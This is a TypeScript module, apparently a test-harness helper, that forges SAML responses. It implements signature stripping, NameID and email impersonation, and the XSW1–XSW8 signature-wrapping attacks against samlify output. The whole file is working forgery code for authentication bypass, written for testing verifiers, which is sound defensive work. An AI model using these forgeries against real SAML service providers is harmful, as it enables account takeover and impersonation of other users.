/**
 * What an attacker does to a SAMLResponse they hold (their own, legitimately signed for them) to
 * try to become someone else. Plain string surgery on samlify's compact output, so each forgery
 * reads as exactly what it does; every step throws if its anchor is missing, so a harness that no
 * longer finds its way cannot pass for a refused attack.
 *
 * The wrapping variants follow "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky et al.,
 * USENIX Security 2012), XSW1 to XSW8.
 */
import { randomBytes } from 'node:crypto';

const ASSERTION = /<saml:Assertion\b[\s\S]*<\/saml:Assertion>/;
const SIGNATURE = /<ds:Signature\b[\s\S]*?<\/ds:Signature>/;
const SIGNATURES = /<ds:Signature\b[\s\S]*?<\/ds:Signature>/g;
const RESPONSE_OPEN = /^<samlp:Response\b[^>]*>/;
const RESPONSE_ISSUER = /^(<samlp:Response\b[^>]*>)(<saml:Issuer>[^<]*<\/saml:Issuer>)/;

export interface Who {
  nameId: string;
  email: string;
}

export const decode = (samlResponse: string) => Buffer.from(samlResponse, 'base64').toString('utf8');
export const encode = (xml: string) => Buffer.from(xml, 'utf8').toString('base64');

function found(pattern: RegExp, xml: string, what: string): string {
  const match = pattern.exec(xml);
  if (!match) throw new Error(`forge: no ${what} in\n${xml.slice(0, 400)}`);
  return match[0];
}

function replaceOnce(xml: string, from: string | RegExp, to: string, what: string): string {
  const hit = typeof from === 'string' ? xml.includes(from) : from.test(xml);
  if (!hit) throw new Error(`forge: no ${what} to replace`);
  return xml.replace(from, () => to);
}

const newId = () => `_evil${randomBytes(12).toString('hex')}`;
function idOf(element: string): string {
  const id = /^<[^>]*\bID="([^"]+)"/.exec(element)?.[1];
  if (!id) throw new Error('forge: element has no ID');
  return id;
}

/** The Response's one Assertion (signed by the IdP when it signs assertions). */
export const assertionOf = (xml: string) => found(ASSERTION, xml, 'Assertion');

/** The Response's own Signature (an IdP that signs the whole Response puts it after the Response's Issuer). */
export function responseSignatureOf(xml: string): string {
  const beforeAssertion = xml.slice(0, xml.indexOf('<saml:Assertion'));
  return found(SIGNATURE, beforeAssertion, 'Response signature');
}

/** Every XML signature removed: "signature stripping". */
export const withoutSignatures = (xml: string) => xml.replace(SIGNATURES, '');

/**
 * An unsigned copy of `assertion` that says it is `who`: new ID, no signature, the victim's NameID
 * and email. Everything else (issuer, audience, recipient, InResponseTo, times) stays valid.
 */
export function impersonate(assertion: string, attacker: Who, victim: Who, id = newId()): string {
  let evil = withoutSignatures(assertion);
  evil = replaceOnce(evil, /\bID="[^"]+"/, `ID="${id}"`, 'assertion ID');
  evil = replaceOnce(evil, `>${attacker.nameId}</saml:NameID>`, `>${victim.nameId}</saml:NameID>`, 'attacker NameID');
  evil = replaceOnce(evil, `>${attacker.email}</saml:AttributeValue>`, `>${victim.email}</saml:AttributeValue>`, 'attacker email');
  return evil;
}

/** Replaces the Response's assertion with `replacement` (one or more elements). */
export const replaceAssertion = (xml: string, replacement: string) => replaceOnce(xml, ASSERTION, replacement, 'Assertion');

/** Puts `content` into a samlp:Extensions element where the schema allows it: after the Response's Issuer (and Signature). */
export function intoExtensions(xml: string, content: string): string {
  const [, open, issuer] = RESPONSE_ISSUER.exec(xml) ?? [];
  if (!open || !issuer) throw new Error('forge: no Response Issuer');
  const rest = xml.slice(open.length + issuer.length);
  const signature = rest.startsWith('<ds:Signature') ? found(SIGNATURE, rest, 'Response signature') : '';
  return `${open}${issuer}${signature}<samlp:Extensions>${content}</samlp:Extensions>${rest.slice(signature.length)}`;
}

/** The signature element with `content` added as a ds:Object, a place verifiers do not look for what they verify. */
export const withObject = (signature: string, content: string) => replaceOnce(signature, /<\/ds:Signature>$/, `<ds:Object>${content}</ds:Object></ds:Signature>`, 'Signature end');

/** A signature element moved into the evil element, right after its Issuer as the IdP puts it. */
export const withSignature = (element: string, signature: string) => replaceOnce(element, /(<saml:Issuer>[^<]*<\/saml:Issuer>)/, `$1${signature}`, 'Issuer');

// ---- The wrapping variants against an IdP that signs the assertion ------------------------------

/** A second, unsigned assertion for the victim before the signed one. */
export const evilBeforeSigned = (xml: string, attacker: Who, victim: Who) => replaceAssertion(xml, impersonate(assertionOf(xml), attacker, victim) + assertionOf(xml));

/** A second, unsigned assertion for the victim after the signed one. */
export const evilAfterSigned = (xml: string, attacker: Who, victim: Who) => replaceAssertion(xml, assertionOf(xml) + impersonate(assertionOf(xml), attacker, victim));

/** XSW7: the signed assertion moved into Extensions, the evil one where assertions are read. */
export function signedInExtensions(xml: string, attacker: Who, victim: Who): string {
  const signed = assertionOf(xml);
  return intoExtensions(replaceAssertion(xml, impersonate(signed, attacker, victim)), signed);
}

/** XSW8: the evil assertion carries the original Signature (Reference URI still the original's ID), the original inside its ds:Object. */
export function signedInSignatureObject(xml: string, attacker: Who, victim: Who): string {
  const signed = assertionOf(xml);
  const signature = found(SIGNATURE, signed, 'assertion signature');
  return replaceAssertion(xml, withSignature(impersonate(signed, attacker, victim), withObject(signature, withoutSignatures(signed))));
}

/** XSW3/4: the evil assertion wraps the signed one (as its last child), so a verifier finds a valid signature inside what it reads. */
export function signedInsideEvil(xml: string, attacker: Who, victim: Who): string {
  const signed = assertionOf(xml);
  const evil = impersonate(signed, attacker, victim);
  return replaceAssertion(xml, evil.replace(/<\/saml:Assertion>$/, () => `${signed}</saml:Assertion>`));
}

/** The evil assertion carries the original signature, whose Reference URI names the signed assertion, now parked in Extensions. */
export function referenceToOtherId(xml: string, attacker: Who, victim: Who): string {
  const signed = assertionOf(xml);
  const signature = found(SIGNATURE, signed, 'assertion signature');
  return intoExtensions(replaceAssertion(xml, withSignature(impersonate(signed, attacker, victim), signature)), withoutSignatures(signed));
}

/** The evil assertion takes the signed one's ID (two elements with one ID: which one did the verifier check?). */
export function duplicateId(xml: string, attacker: Who, victim: Who): string {
  const signed = assertionOf(xml);
  const signature = found(SIGNATURE, signed, 'assertion signature');
  return intoExtensions(replaceAssertion(xml, withSignature(impersonate(signed, attacker, victim, idOf(signed)), signature)), signed);
}

/** The signature's Reference URI re-pointed at the evil assertion's ID (SignedInfo is what is signed). */
export function referenceRepointed(xml: string, attacker: Who, victim: Who): string {
  const signed = assertionOf(xml);
  const signature = found(SIGNATURE, signed, 'assertion signature');
  const id = newId();
  const repointed = replaceOnce(signature, `URI="#${idOf(signed)}"`, `URI="#${id}"`, 'Reference URI');
  return replaceAssertion(xml, withSignature(impersonate(signed, attacker, victim, id), repointed));
}

/** The signed assertion edited in place: NameID and email changed, ID and signature kept (the digest no longer matches). */
export function editedInPlace(xml: string, attacker: Who, victim: Who): string {
  const signed = assertionOf(xml);
  const signature = found(SIGNATURE, signed, 'assertion signature');
  return replaceAssertion(xml, withSignature(impersonate(signed, attacker, victim, idOf(signed)), signature));
}

// ---- The wrapping variants against an IdP that signs only the Response --------------------------

/**
 * XSW1: a new, unsigned Response (new ID) around the evil assertion, carrying the original
 * Response's Signature, with the original Response inside that Signature's ds:Object.
 */
export function responseInSignatureObject(xml: string, attacker: Who, victim: Who): string {
  const signature = responseSignatureOf(xml);
  const original = xml.replace(signature, '');
  const evil = evilResponse(xml, attacker, victim);
  return evil.replace(RESPONSE_ISSUER, (_, open: string, issuer: string) => `${open}${issuer}${withObject(signature, original)}`);
}

/** XSW2: as XSW1, but the original Response sits beside the Signature, in the evil Response's Extensions. */
export function responseInExtensions(xml: string, attacker: Who, victim: Who): string {
  const signature = responseSignatureOf(xml);
  const original = xml.replace(signature, '');
  const evil = evilResponse(xml, attacker, victim);
  return intoExtensions(evil.replace(RESPONSE_ISSUER, (_, open: string, issuer: string) => `${open}${issuer}${signature}`), original);
}

/** The signed Response left as it is, an evil unsigned assertion added next to the signed content. */
export const evilAddedToSignedResponse = (xml: string, attacker: Who, victim: Who) => evilAfterSigned(xml, attacker, victim);

/** An unsigned Response with a new ID whose assertion is the victim's. */
function evilResponse(xml: string, attacker: Who, victim: Who): string {
  const unsigned = withoutSignatures(xml);
  const open = found(RESPONSE_OPEN, unsigned, 'Response');
  const withNewId = unsigned.replace(open, open.replace(/\bID="[^"]+"/, `ID="${newId()}"`));
  return replaceAssertion(withNewId, impersonate(assertionOf(withNewId), attacker, victim));
}
